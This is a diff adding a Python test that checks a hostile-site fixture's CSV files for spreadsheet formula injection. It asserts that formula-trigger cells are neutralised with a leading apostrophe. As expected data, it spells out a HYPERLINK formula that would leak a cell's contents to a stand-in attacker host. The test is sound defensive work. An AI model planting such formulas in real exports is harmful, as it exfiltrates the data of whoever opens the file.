@@ -157,3 +157,19 @@ def test_page_case_shows_the_source_exactly(case, hostile_site):
             body = source_lines(hostile_site / "archive", expected["file"], first, last)
         assert visible_text(html) == body
         assert_no_markup_from_source(doc)
+
+
+def test_no_csv_cell_of_the_hostile_site_is_a_formula(hostile_site):
+    """Every text cell that a spreadsheet would run (=, +, -, @, tab, CR) is written after a '."""
+    import csv
+
+    seen = []
+    for path in sorted((hostile_site / "site" / "data").glob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as f:
+            for row in csv.reader(f):
+                seen += [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert seen == []
+    with (hostile_site / "site" / "data" / "articles.csv").open(encoding="utf-8", newline="") as f:
+        titles = {row["id"]: row["title"] for row in csv.DictReader(f)}
+    assert titles["a100029"] == "\'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"
+
